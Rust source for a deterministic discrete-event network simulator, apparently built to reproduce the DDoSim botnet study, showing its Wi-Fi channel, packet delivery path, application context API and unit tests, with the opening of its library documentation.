                        "chan {} station {station} collided (retries exceeded: {retries_exceeded})",
                        chan.index()
                    )
                },
            );
            if retries_exceeded {
                let before = self.channels[chan.index()].buffered_bytes();
                let popped = self.channels[chan.index()].pop_head(station);
                let after = self.channels[chan.index()].buffered_bytes();
                self.adjust_buffered(before, after);
                if let Some(pkt) = popped {
                    self.drop_packet(DropReason::WifiRetryLimit, node, &pkt);
                }
            }
            self.maybe_schedule_wifi_attempt(chan, station);
            return;
        }
        // Successful medium acquisition: transmit the head frame.
        let (packet, txd, prop, gen) = {
            let c = &mut self.channels[chan.index()];
            c.stations[station].tx_gen += 1;
            c.stations[station].in_flight = true;
            let gen = c.stations[station].tx_gen;
            let head = c.head(station).expect("nonempty queue").clone();
            let txd = tx_delay(u64::from(head.wire_bytes()), c.config.rate_bps);
            let prop = c.config.delay;
            c.busy_until_nanos = (self.now + txd).as_nanos();
            (head, txd, prop, gen)
        };
        self.schedule(self.now + txd, Event::WifiTxComplete { chan, station, gen });
        self.deliver_wifi_frame(chan, station, packet, txd + prop);
    }

    fn deliver_wifi_frame(
        &mut self,
        chan: ChannelId,
        from_station: usize,
        packet: Packet,
        after: Duration,
    ) {
        let loss_p = self.channels[chan.index()].config.loss_probability;
        let deliver_to: Vec<IfaceId> = if packet.is_multicast() {
            self.channels[chan.index()]
                .stations
                .iter()
                .enumerate()
                .filter(|(i, _)| *i != from_station)
                .map(|(_, s)| s.iface)
                .collect()
        } else {
            let dst_iface = self.addr_index.get(&packet.dst.ip()).copied();
            let c = &self.channels[chan.index()];
            let target = dst_iface
                .filter(|i| c.station_of(*i).is_some())
                .or_else(|| c.gateway.map(|g| c.stations[g].iface))
                .filter(|i| c.station_of(*i) != Some(from_station));
            target.into_iter().collect()
        };
        let node = self.ifaces[self.channels[chan.index()].stations[from_station].iface.index()].node;
        if deliver_to.is_empty() {
            self.drop_packet(DropReason::NoRoute, node, &packet);
            return;
        }
        for iface in deliver_to {
            if loss_p > 0.0 && self.rng.gen_bool(loss_p.clamp(0.0, 1.0)) {
                self.drop_packet(DropReason::WifiLoss, node, &packet);
                continue;
            }
            self.schedule(
                self.now + after,
                Event::Deliver {
                    iface,
                    packet: packet.clone(),
                    epoch: None,
                },
            );
        }
    }

    fn on_wifi_tx_complete(&mut self, chan: ChannelId, station: usize, gen: u64) {
        {
            let c = &mut self.channels[chan.index()];
            if c.stations[station].tx_gen != gen {
                return; // stale
            }
        }
        let before = self.channels[chan.index()].buffered_bytes();
        {
            let c = &mut self.channels[chan.index()];
            let popped = c.pop_head(station);
            c.stations[station].retries = 0;
            c.stations[station].in_flight = false;
            // Egress shaping: space transmission starts at the shaped rate
            // (the frame occupied the medium at the PHY rate; its *start*
            // was `tx_delay(wire, phy)` ago).
            if let (Some(pkt), Some(shape)) = (popped, c.stations[station].shaping_rate_bps) {
                let wire = u64::from(pkt.wire_bytes());
                let phy_txd = tx_delay(wire, c.config.rate_bps);
                let start_nanos = self.now.as_nanos().saturating_sub(phy_txd.as_nanos() as u64);
                let next = SimTime::from_nanos(start_nanos) + tx_delay(wire, shape);
                c.stations[station].next_allowed_tx_nanos = next.as_nanos();
            }
        }
        let after = self.channels[chan.index()].buffered_bytes();
        self.adjust_buffered(before, after);
        self.maybe_schedule_wifi_attempt(chan, station);
        // Other stations whose attempts deferred during busy reschedule on
        // their own pending events.
    }

    // ----- receive path ----------------------------------------------------------------

    fn on_deliver(&mut self, iface: IfaceId, mut packet: Packet, epoch: Option<(LinkId, u64)>) {
        let node = self.ifaces[iface.index()].node;
        // A frame transmitted before a link-down flap must not arrive after
        // it: the flap bumped the link epoch, so the stamp this delivery
        // carries no longer matches and the frame is charged to the flap.
        if let Some((link, stamped)) = epoch {
            if self.links[link.index()].epoch != stamped {
                self.drop_packet(DropReason::LinkDown, node, &packet);
                return;
            }
        }
        if !self.nodes.up[node.index()] {
            self.drop_packet(DropReason::NodeDown, node, &packet);
            return;
        }
        if let Some(filter) = self.filters.get_mut(&node) {
            if filter(&packet, self.now) == FilterVerdict::Drop {
                self.drop_packet(DropReason::Filtered, node, &packet);
                return;
            }
        }
        if let Some(stack) = self.node_filters.get_mut(&node) {
            if stack.verdict(&packet, self.now, &self.blocklist) == FilterVerdict::Drop {
                self.drop_packet(DropReason::Filtered, node, &packet);
                return;
            }
        }
        let dst = packet.dst.ip();
        if packet.is_multicast() {
            if self.joined_multicast(node, dst) {
                self.deliver_up(node, packet.clone());
            }
            if self.nodes.forward_multicast[node.index()] && packet.ttl > 1 {
                packet.ttl -= 1;
                self.trace(TraceKind::Forwarded, node, &packet);
                self.route_and_transmit(node, packet, Some(iface));
            }
            return;
        }
        if self.is_local_addr(node, dst) {
            self.deliver_up(node, packet);
            return;
        }
        if self.nodes.forwarding[node.index()] {
            if packet.ttl <= 1 {
                self.drop_packet(DropReason::TtlExpired, node, &packet);
                return;
            }
            packet.ttl -= 1;
            self.trace(TraceKind::Forwarded, node, &packet);
            self.route_and_transmit(node, packet, Some(iface));
            return;
        }
        self.drop_packet(DropReason::NoRoute, node, &packet);
    }

    fn deliver_up(&mut self, node: NodeId, packet: Packet) {
        self.nodes.rx_packets[node.index()] += 1;
        self.nodes.rx_bytes[node.index()] += u64::from(packet.wire_bytes());
        match packet.proto {
            TransportProto::Udp => {
                let port = packet.dst.port();
                match self.nodes.udp_binds[node.index()].get(&port).copied() {
                    Some(app) => {
                        self.stats.packets_delivered += 1;
                        self.stats.bytes_delivered += u64::from(packet.wire_bytes());
                        self.trace(TraceKind::Delivered, node, &packet);
                        self.with_app(app, |a, ctx| a.on_packet(ctx, &packet));
                    }
                    None => self.drop_packet(DropReason::PortUnreachable, node, &packet),
                }
            }
            TransportProto::Tcp => {
                self.stats.packets_delivered += 1;
                self.stats.bytes_delivered += u64::from(packet.wire_bytes());
                self.trace(TraceKind::Delivered, node, &packet);
                let actions = self.tcp_stack_mut(node).on_segment(&packet);
                self.process_tcp_actions(node, actions);
            }
        }
    }

    fn process_tcp_actions(&mut self, node: NodeId, actions: Vec<TcpAction>) {
        for action in actions {
            match action {
                TcpAction::Send(pkt) => self.send_from_node(node, pkt),
                TcpAction::Event(app, ev) => {
                    self.with_app(app, |a, ctx| a.on_tcp(ctx, ev));
                }
                TcpAction::SetRto { conn, seq, after } => {
                    self.schedule(self.now + after, Event::TcpRto { node, conn, seq });
                }
            }
        }
    }
}

/// The context handle applications use to act on the world.
///
/// A `Ctx` is passed to every [`Application`] callback. It exposes the
/// simulated clock, RNG, sockets, timers, and node administration.
pub struct Ctx<'a> {
    sim: &'a mut Simulator,
    app_id: AppId,
    removed: bool,
}

impl fmt::Debug for Ctx<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Ctx").field("app", &self.app_id).finish()
    }
}

impl Ctx<'_> {
    /// The current simulated time.
    pub fn now(&self) -> SimTime {
        self.sim.now
    }

    /// The simulator RNG (deterministic per seed).
    pub fn rng(&mut self) -> &mut SmallRng {
        &mut self.sim.rng
    }

    /// This application's id.
    pub fn app_id(&self) -> AppId {
        self.app_id
    }

    /// The node this application runs on.
    pub fn node_id(&self) -> NodeId {
        self.app_id.node
    }

    /// Whether this node is currently up.
    pub fn node_is_up(&self) -> bool {
        self.sim.nodes.up[self.app_id.node.index()]
    }

    /// This node's first address of the requested family.
    pub fn my_addr(&self, want_v6: bool) -> Option<IpAddr> {
        self.sim.node_addr(self.app_id.node, want_v6)
    }

    /// Escape hatch: the underlying simulator (for orchestration apps such
    /// as churn controllers that administer other nodes).
    pub fn sim(&mut self) -> &mut Simulator {
        self.sim
    }

    // ----- UDP -----

    /// Binds a UDP port to this application.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::PortInUse`] if another app bound the port.
    pub fn udp_bind(&mut self, port: u16) -> Result<(), NetError> {
        let binds = &mut self.sim.nodes.udp_binds[self.app_id.node.index()];
        if binds.contains_key(&port) {
            return Err(NetError::PortInUse);
        }
        binds.insert(port, self.app_id);
        Ok(())
    }

    /// Binds an ephemeral UDP port and returns it.
    pub fn udp_bind_ephemeral(&mut self) -> u16 {
        let idx = self.app_id.node.index();
        let port = self.sim.nodes.alloc_ephemeral_port(idx);
        self.sim.nodes.udp_binds[idx].insert(port, self.app_id);
        port
    }

    /// Releases a UDP port bound by this application.
    pub fn udp_unbind(&mut self, port: u16) {
        let binds = &mut self.sim.nodes.udp_binds[self.app_id.node.index()];
        if binds.get(&port) == Some(&self.app_id) {
            binds.remove(&port);
        }
    }

    /// Sends a UDP datagram from `src_port` to `dst`. The source address is
    /// chosen to match the destination family.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::NoAddress`] if the node has no address of the
    /// destination's family.
    pub fn udp_send(
        &mut self,
        src_port: u16,
        dst: SocketAddr,
        payload: Payload,
        payload_bytes: u32,
    ) -> Result<(), NetError> {
        let src_ip = self
            .sim
            .node_addr(self.app_id.node, dst.is_ipv6())
            .ok_or(NetError::NoAddress)?;
        let pkt = Packet::udp(
            SocketAddr::new(src_ip, src_port),
            dst,
            payload,
            payload_bytes,
        );
        self.sim.send_from_node(self.app_id.node, pkt);
        Ok(())
    }

    /// Sends a fully-formed packet from this node — the raw-socket
    /// analogue, used by flood vectors that forge TCP segments.
    pub fn send_raw(&mut self, packet: Packet) {
        let node = self.app_id.node;
        self.sim.send_from_node(node, packet);
    }

    /// Joins a multicast group on all of this node's interfaces.
    pub fn join_multicast(&mut self, group: IpAddr) {
        debug_assert!(packet::is_multicast(group), "not a multicast group");
        let ifaces = self.sim.nodes.ifaces[self.app_id.node.index()].clone();
        for iface in ifaces {
            let groups = &mut self.sim.ifaces[iface.index()].multicast_groups;
            if !groups.contains(&group) {
                groups.push(group);
            }
        }
    }

    // ----- timers -----

    /// Schedules `on_timer(token)` after `after`.
    pub fn set_timer(&mut self, after: Duration, token: u64) {
        let at = self.sim.now + after;
        self.sim.schedule(at, Event::Timer { app: self.app_id, token });
    }

    // ----- tcp-lite -----

    /// Listens for inbound connections on `port`.
    ///
    /// # Errors
    ///
    /// Returns [`TcpError::PortInUse`] if another app is listening.
    pub fn tcp_listen(&mut self, port: u16) -> Result<(), TcpError> {
        self.sim.tcp_stack_mut(self.app_id.node).listen(port, self.app_id)
    }

    /// Initiates a connection to `peer`; completion is signalled with
    /// [`TcpEvent::Connected`] or [`TcpEvent::ConnectFailed`].
    ///
    /// [`TcpEvent::Connected`]: crate::tcp::TcpEvent::Connected
    /// [`TcpEvent::ConnectFailed`]: crate::tcp::TcpEvent::ConnectFailed
    ///
    /// # Errors
    ///
    /// Returns [`NetError::NoAddress`] if the node has no address of the
    /// peer's family.
    pub fn tcp_connect(&mut self, peer: SocketAddr) -> Result<ConnId, NetError> {
        let local = self
            .sim
            .node_addr(self.app_id.node, peer.is_ipv6())
            .ok_or(NetError::NoAddress)?;
        let node = self.app_id.node;
        let (conn, actions) = self.sim.tcp_stack_mut(node).connect(self.app_id, local, peer);
        self.sim.process_tcp_actions(node, actions);
        Ok(conn)
    }

    /// Sends a message on an established connection.
    ///
    /// # Errors
    ///
    /// Returns [`TcpError::NotConnected`] if the connection is not
    /// established.
    pub fn tcp_send(&mut self, conn: ConnId, payload: Payload, bytes: u32) -> Result<(), TcpError> {
        let node = self.app_id.node;
        let actions = self.sim.tcp_stack_mut(node).send(conn, payload, bytes)?;
        self.sim.process_tcp_actions(node, actions);
        Ok(())
    }

    /// Closes a connection (best-effort FIN).
    pub fn tcp_close(&mut self, conn: ConnId) {
        let node = self.app_id.node;
        let actions = self.sim.tcp_stack_mut(node).close(conn);
        self.sim.process_tcp_actions(node, actions);
    }

    /// Whether a connection is currently established.
    pub fn tcp_is_established(&self, conn: ConnId) -> bool {
        self.sim.tcp[self.app_id.node.index()]
            .as_ref()
            .is_some_and(|s| s.is_established(conn))
    }

    /// Stops listening on a port previously passed to [`Ctx::tcp_listen`].
    pub fn tcp_unlisten(&mut self, port: u16) {
        if let Some(stack) = self.sim.tcp[self.app_id.node.index()].as_mut() {
            stack.unlisten(port);
        }
    }

    // ----- process / node management -----

    /// Installs a new application on `node`, starting it immediately.
    pub fn spawn_app(&mut self, node: NodeId, app: Box<dyn Application>) -> AppId {
        self.sim.install_app(node, app)
    }

    /// Removes this application after the current callback returns.
    pub fn exit(&mut self) {
        self.removed = true;
    }

    /// Removes another application immediately.
    pub fn kill_app(&mut self, id: AppId) {
        if id == self.app_id {
            self.removed = true;
        } else {
            self.sim.remove_app(id);
        }
    }

    /// Schedules a node up/down transition (takes effect as its own event).
    pub fn set_node_admin(&mut self, node: NodeId, up: bool) {
        self.sim.schedule_node_admin(node, up);
    }

    /// Requests the simulation loop to stop.
    pub fn request_stop(&mut self) {
        self.sim.request_stop();
    }

    // ----- telemetry -----

    /// The run's telemetry handle (disabled unless one was installed with
    /// [`Simulator::set_telemetry`]).
    pub fn telemetry(&self) -> &Telemetry {
        self.sim.telemetry()
    }

    /// Records a flight-recorder event stamped with the current simulated
    /// time and this application's node. `detail` only runs when the
    /// recorder is live.
    pub fn record_event(&self, category: Category, detail: impl FnOnce() -> String) {
        self.sim.telemetry.record_event(
            self.sim.now.as_nanos(),
            Some(self.app_id.node.index() as u32),
            category,
            detail,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tcp::TcpEvent;
    use std::net::Ipv4Addr;

    fn v4(d: u8) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(10, 0, 0, d))
    }

    /// Two hosts joined by one link; a sender app and a counting sink.
    struct Harness {
        sim: Simulator,
        a: NodeId,
        b: NodeId,
    }

    fn two_hosts(rate_bps: u64) -> Harness {
        let mut sim = Simulator::new(7);
        let a = sim.add_node("a");
        let b = sim.add_node("b");
        let ia = sim.add_iface(a, vec![v4(1)]);
        let ib = sim.add_iface(b, vec![v4(2)]);
        sim.connect_p2p(
            ia,
            ib,
            LinkConfig::new(rate_bps, Duration::from_millis(1)),
        )
        .expect("fresh ifaces");
        sim.add_default_route(a, ia);
        sim.add_default_route(b, ib);
        Harness { sim, a, b }
    }

    #[derive(Default)]
    struct Sink {
        packets: u64,
        bytes: u64,
    }

    impl Application for Sink {
        fn name(&self) -> &str {
            "sink"
        }
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.udp_bind(9).expect("bind sink port");
        }
        fn on_packet(&mut self, _ctx: &mut Ctx<'_>, packet: &Packet) {
            self.packets += 1;
            self.bytes += u64::from(packet.wire_bytes());
        }
    }

    struct Blaster {
        dst: SocketAddr,
        count: u32,
        interval: Duration,
        sent: u32,
    }

    impl Application for Blaster {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.udp_bind(1000).expect("bind");
            ctx.set_timer(Duration::ZERO, 0);
        }
        fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
            if self.sent >= self.count {
                return;
            }
            self.sent += 1;
            ctx.udp_send(1000, self.dst, Payload::empty(), 100)
                .expect("send");
            ctx.set_timer(self.interval, 0);
        }
    }

    #[test]
    fn udp_delivery_end_to_end() {
        let mut h = two_hosts(1_000_000);
        let sink = h.sim.install_app(h.b, Box::new(Sink::default()));
        h.sim.install_app(
            h.a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 10,
                interval: Duration::from_millis(10),
                sent: 0,
            }),
        );
        h.sim.run_until(SimTime::from_secs(2));
        let s = h.sim.app_ref::<Sink>(sink).expect("sink exists");
        assert_eq!(s.packets, 10);
        assert_eq!(h.sim.stats().packets_delivered, 10);
    }

    #[test]
    fn slow_link_limits_throughput() {
        // 100 kbps link; offer ~10x that for one second.
        let mut h = two_hosts(100_000);
        let sink = h.sim.install_app(h.b, Box::new(Sink::default()));
        h.sim.install_app(
            h.a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 1000,
                interval: Duration::from_millis(1),
                sent: 0,
            }),
        );
        h.sim.run_until(SimTime::from_secs(1));
        let s = h.sim.app_ref::<Sink>(sink).expect("sink");
        // 100 kbps for 1 s = 12.5 kB; each packet is 128 wire bytes => ~97.
        assert!(s.packets < 120, "got {}", s.packets);
        assert!(s.packets > 60, "got {}", s.packets);
        assert!(h.sim.stats().dropped_queue_overflow > 0);
    }

    #[test]
    fn node_down_drops_traffic_and_up_restores() {
        let mut h = two_hosts(1_000_000);
        let sink = h.sim.install_app(h.b, Box::new(Sink::default()));
        h.sim.install_app(
            h.a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 100,
                interval: Duration::from_millis(20),
                sent: 0,
            }),
        );
        let b = h.b;
        h.sim.schedule_call(SimTime::from_millis(500), move |sim| {
            sim.set_node_admin(b, false);
        });
        h.sim.schedule_call(SimTime::from_millis(1200), move |sim| {
            sim.set_node_admin(b, true);
        });
        h.sim.run_until(SimTime::from_secs(3));
        let s = h.sim.app_ref::<Sink>(sink).expect("sink");
        assert!(s.packets < 100, "some packets must be lost while down");
        assert!(h.sim.stats().dropped_node_down > 0);
        assert!(s.packets > 40, "delivery must resume after up");
    }

    #[test]
    fn tcp_connect_and_exchange() {
        struct Server {
            got: Vec<u32>,
        }
        impl Application for Server {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.tcp_listen(23).expect("listen");
            }
            fn on_tcp(&mut self, ctx: &mut Ctx<'_>, ev: TcpEvent) {
                if let TcpEvent::Data { conn, payload, .. } = ev {
                    let v = *payload.get::<u32>().expect("u32");
                    self.got.push(v);
                    ctx.tcp_send(conn, Payload::new(v + 1), 4).expect("reply");
                }
            }
        }
        struct Client {
            server: SocketAddr,
            reply: Option<u32>,
        }
        impl Application for Client {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.tcp_connect(self.server).expect("connect");
            }
            fn on_tcp(&mut self, ctx: &mut Ctx<'_>, ev: TcpEvent) {
                match ev {
                    TcpEvent::Connected { conn } => {
                        ctx.tcp_send(conn, Payload::new(41u32), 4).expect("send");
                    }
                    TcpEvent::Data { payload, .. } => {
                        self.reply = Some(*payload.get::<u32>().expect("u32"));
                    }
                    _ => {}
                }
            }
        }
        let mut h = two_hosts(1_000_000);
        let srv = h.sim.install_app(h.b, Box::new(Server { got: vec![] }));
        let cli = h.sim.install_app(
            h.a,
            Box::new(Client {
                server: SocketAddr::new(v4(2), 23),
                reply: None,
            }),
        );
        h.sim.run_until(SimTime::from_secs(2));
        assert_eq!(h.sim.app_ref::<Server>(srv).expect("srv").got, vec![41]);
        assert_eq!(h.sim.app_ref::<Client>(cli).expect("cli").reply, Some(42));
    }

    #[test]
    fn forwarding_via_router() {
        let mut sim = Simulator::new(1);
        let a = sim.add_node("a");
        let r = sim.add_node("r");
        let b = sim.add_node("b");
        sim.set_forwarding(r, true);
        let ia = sim.add_iface(a, vec![v4(1)]);
        let ra = sim.add_iface(r, vec![IpAddr::V4(Ipv4Addr::new(10, 0, 1, 1))]);
        let rb = sim.add_iface(r, vec![IpAddr::V4(Ipv4Addr::new(10, 0, 2, 1))]);
        let ib = sim.add_iface(b, vec![v4(2)]);
        sim.connect_p2p(ia, ra, LinkConfig::default()).expect("a-r");
        sim.connect_p2p(rb, ib, LinkConfig::default()).expect("r-b");
        sim.add_default_route(a, ia);
        sim.add_default_route(b, ib);
        sim.add_route(r, v4(1), 32, ra);
        sim.add_route(r, v4(2), 32, rb);
        let sink = sim.install_app(b, Box::new(Sink::default()));
        sim.install_app(
            a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 5,
                interval: Duration::from_millis(5),
                sent: 0,
            }),
        );
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<Sink>(sink).expect("sink").packets, 5);
    }

    #[test]
    fn multicast_reaches_joined_nodes_via_relay() {
        struct McastSink {
            group: IpAddr,
            got: u64,
        }
        impl Application for McastSink {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.join_multicast(self.group);
                ctx.udp_bind(547).expect("bind");
            }
            fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _p: &Packet) {
                self.got += 1;
            }
        }
        let group = packet::all_dhcp_agents_v6();
        let mut sim = Simulator::new(1);
        let atk = sim.add_node("attacker");
        let r = sim.add_node("router");
        sim.set_forwarding(r, true);
        sim.set_multicast_relay(r, true);
        let d1 = sim.add_node("dev1");
        let d2 = sim.add_node("dev2");
        let v6 = |x: u16| IpAddr::V6(std::net::Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, x));
        let ia = sim.add_iface(atk, vec![v6(1)]);
        let r0 = sim.add_iface(r, vec![v6(0xff)]);
        let r1 = sim.add_iface(r, vec![IpAddr::V6(std::net::Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 1, 0xff))]);
        let r2 = sim.add_iface(r, vec![IpAddr::V6(std::net::Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 2, 0xff))]);
        let i1 = sim.add_iface(d1, vec![v6(0x10)]);
        let i2 = sim.add_iface(d2, vec![v6(0x11)]);
        sim.connect_p2p(ia, r0, LinkConfig::default()).expect("atk-r");
        sim.connect_p2p(r1, i1, LinkConfig::default()).expect("r-d1");
        sim.connect_p2p(r2, i2, LinkConfig::default()).expect("r-d2");
        sim.add_default_route(atk, ia);
        sim.add_default_route(d1, i1);
        sim.add_default_route(d2, i2);
        let s1 = sim.install_app(d1, Box::new(McastSink { group, got: 0 }));
        let s2 = sim.install_app(d2, Box::new(McastSink { group, got: 0 }));
        struct McastSender {
            group: IpAddr,
        }
        impl Application for McastSender {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.udp_bind(546).expect("bind");
                ctx.udp_send(
                    546,
                    SocketAddr::new(self.group, 547),
                    Payload::empty(),
                    200,
                )
                .expect("send");
            }
        }
        sim.install_app(atk, Box::new(McastSender { group }));
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<McastSink>(s1).expect("s1").got, 1);
        assert_eq!(sim.app_ref::<McastSink>(s2).expect("s2").got, 1);
    }

    #[test]
    fn wifi_channel_carries_traffic() {
        let mut sim = Simulator::new(3);
        let chan = sim.add_wifi_channel(WifiConfig {
            rate_bps: 1_000_000,
            ..WifiConfig::default()
        });
        let a = sim.add_node("sta-a");
        let b = sim.add_node("sta-b");
        let ia = sim.add_iface(a, vec![v4(1)]);
        let ib = sim.add_iface(b, vec![v4(2)]);
        sim.attach_wifi(ia, chan).expect("attach a");
        sim.attach_wifi(ib, chan).expect("attach b");
        sim.add_default_route(a, ia);
        sim.add_default_route(b, ib);
        let sink = sim.install_app(b, Box::new(Sink::default()));
        sim.install_app(
            a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 20,
                interval: Duration::from_millis(5),
                sent: 0,
            }),
        );
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<Sink>(sink).expect("sink").packets, 20);
    }

    #[test]
    fn wifi_loss_drops_frames() {
        let mut sim = Simulator::new(3);
        let chan = sim.add_wifi_channel(WifiConfig {
            rate_bps: 10_000_000,
            loss_probability: 1.0,
            ..WifiConfig::default()
        });
        let a = sim.add_node("a");
        let b = sim.add_node("b");
        let ia = sim.add_iface(a, vec![v4(1)]);
        let ib = sim.add_iface(b, vec![v4(2)]);
        sim.attach_wifi(ia, chan).expect("attach");
        sim.attach_wifi(ib, chan).expect("attach");
        sim.add_default_route(a, ia);
        let sink = sim.install_app(b, Box::new(Sink::default()));
        sim.install_app(
            a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 5,
                interval: Duration::from_millis(5),
                sent: 0,
            }),
        );
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<Sink>(sink).expect("sink").packets, 0);
        assert_eq!(sim.stats().dropped_wifi_loss, 5);
    }

    #[test]
    fn timer_tokens_are_delivered() {
        struct Timers {
            fired: Vec<u64>,
        }
        impl Application for Timers {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.set_timer(Duration::from_millis(20), 2);
                ctx.set_timer(Duration::from_millis(10), 1);
            }
            fn on_timer(&mut self, _ctx: &mut Ctx<'_>, token: u64) {
                self.fired.push(token);
            }
        }
        let mut sim = Simulator::new(1);
        let n = sim.add_node("n");
        let id = sim.install_app(n, Box::new(Timers { fired: vec![] }));
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<Timers>(id).expect("app").fired, vec![1, 2]);
    }

    #[test]
    fn app_exit_removes_it() {
        struct OneShot;
        impl Application for OneShot {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.udp_bind(77).expect("bind");
                ctx.exit();
            }
        }
        let mut sim = Simulator::new(1);
        let n = sim.add_node("n");
        let id = sim.install_app(n, Box::new(OneShot));
        sim.run_until(SimTime::from_secs(1));
        assert!(!sim.app_exists(id));
        // Port was released.
        assert!(sim.node(n).udp_binds().is_empty());
    }

    #[test]
    fn trace_hook_sees_packets() {
        use std::cell::RefCell;
        use std::rc::Rc;
        let records = Rc::new(RefCell::new(Vec::new()));
        let sink_records = Rc::clone(&records);
        let mut h = two_hosts(1_000_000);
        h.sim.set_trace(Box::new(move |r| {
            sink_records.borrow_mut().push(r.kind);
        }));
        h.sim.install_app(h.b, Box::new(Sink::default()));
        h.sim.install_app(
            h.a,
            Box::new(Blaster {
                dst: SocketAddr::new(v4(2), 9),
                count: 1,
                interval: Duration::from_millis(5),
                sent: 0,
            }),
        );
        h.sim.run_until(SimTime::from_secs(1));
        let kinds = records.borrow();
        assert!(kinds.contains(&TraceKind::Sent));
        assert!(kinds.contains(&TraceKind::Delivered));
    }

    #[test]
    fn determinism_same_seed_same_stats() {
        let run = |seed: u64| {
            let mut h = two_hosts(50_000);
            h.sim = {
                let mut sim = Simulator::new(seed);
                let a = sim.add_node("a");
                let b = sim.add_node("b");
                let ia = sim.add_iface(a, vec![v4(1)]);
                let ib = sim.add_iface(b, vec![v4(2)]);
                sim.connect_p2p(ia, ib, LinkConfig::new(50_000, Duration::from_millis(2)))
                    .expect("link");
                sim.add_default_route(a, ia);
                sim.add_default_route(b, ib);
                sim
            };
            h.a = NodeId::from_index(0);
            h.b = NodeId::from_index(1);
            h.sim.install_app(h.b, Box::new(Sink::default()));
            h.sim.install_app(
                h.a,
                Box::new(Blaster {
                    dst: SocketAddr::new(v4(2), 9),
                    count: 200,
                    interval: Duration::from_millis(3),
                    sent: 0,
                }),
            );
            h.sim.run_until(SimTime::from_secs(2));
            h.sim.stats().clone()
        };
        assert_eq!(run(5), run(5));
    }

    #[test]
    fn run_until_advances_clock_even_when_idle() {
        let mut sim = Simulator::new(0);
        sim.run_until(SimTime::from_secs(10));
        assert_eq!(sim.now(), SimTime::from_secs(10));
    }

    #[test]
    fn ttl_expires_in_routing_loop() {
        // Two routers pointing default routes at each other.
        let mut sim = Simulator::new(1);
        let r1 = sim.add_node("r1");
        let r2 = sim.add_node("r2");
        sim.set_forwarding(r1, true);
        sim.set_forwarding(r2, true);
        let i1 = sim.add_iface(r1, vec![v4(1)]);
        let i2 = sim.add_iface(r2, vec![v4(2)]);
        sim.connect_p2p(i1, i2, LinkConfig::default()).expect("link");
        sim.add_default_route(r1, i1);
        sim.add_default_route(r2, i2);
        struct LoopSender;
        impl Application for LoopSender {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.udp_bind(5).expect("bind");
                // Address that neither router owns.
                ctx.udp_send(
                    5,
                    SocketAddr::new(IpAddr::V4(Ipv4Addr::new(99, 9, 9, 9)), 9),
                    Payload::empty(),
                    10,
                )
                .expect("send");
            }
        }
        sim.install_app(r1, Box::new(LoopSender));
        sim.run_until(SimTime::from_secs(5));
        assert_eq!(sim.stats().dropped_ttl, 1);
    }
}
