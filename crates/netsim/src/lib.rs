//! # netsim — a discrete-event network simulator
//!
//! The NS-3 substitute underlying the DDoSim reproduction: a deterministic,
//! packet-level, discrete-event network simulator with
//!
//! * a simulated clock and ordered event queue ([`SimTime`], [`Simulator`]),
//! * nodes, interfaces, and static routing with IPv4 **and** IPv6
//!   (including multicast, needed by the DHCPv6 exploit path),
//! * point-to-point links with finite rate, propagation delay, and
//!   drop-tail queues ([`LinkConfig`]) — the congestion mechanisms behind
//!   the paper's Figure 2,
//! * a shared Wi-Fi-like channel with simplified CSMA/CA contention
//!   ([`WifiConfig`]) for the hardware-reference validation scenario,
//! * UDP datagrams and a light reliable stream transport ([`tcp`]),
//! * an [`Application`] trait — the analogue of NS-3 `Application`s and of
//!   processes inside Docker containers.
//!
//! # Examples
//!
//! Two hosts on a star; one sends a datagram to the other:
//!
//! ```
//! use netsim::{Application, Ctx, LinkConfig, Packet, Payload, SimTime, Simulator};
//! use netsim::topology::StarTopology;
//! use std::net::SocketAddr;
//!
//! #[derive(Default)]
//! struct Sink(u64);
//! impl Application for Sink {
//!     fn on_start(&mut self, ctx: &mut Ctx<'_>) {
//!         ctx.udp_bind(9).expect("port 9 is free");
//!     }
//!     fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _p: &Packet) {
//!         self.0 += 1;
//!     }
//! }
//!
//! struct Hello(SocketAddr);
//! impl Application for Hello {
//!     fn on_start(&mut self, ctx: &mut Ctx<'_>) {
//!         ctx.udp_bind(1000).expect("port 1000 is free");
//!         ctx.udp_send(1000, self.0, Payload::empty(), 12).expect("addressable");
//!     }
//! }
//!
//! let mut sim = Simulator::new(42);
//! let mut star = StarTopology::new(&mut sim, "internet");
//! let a = sim.add_node("a");
//! let b = sim.add_node("b");
//! star.attach(&mut sim, a, LinkConfig::default());
//! let mb = star.attach(&mut sim, b, LinkConfig::default());
//! let sink = sim.install_app(b, Box::new(Sink::default()));
//! sim.install_app(a, Box::new(Hello(SocketAddr::new(mb.addr_v4, 9))));
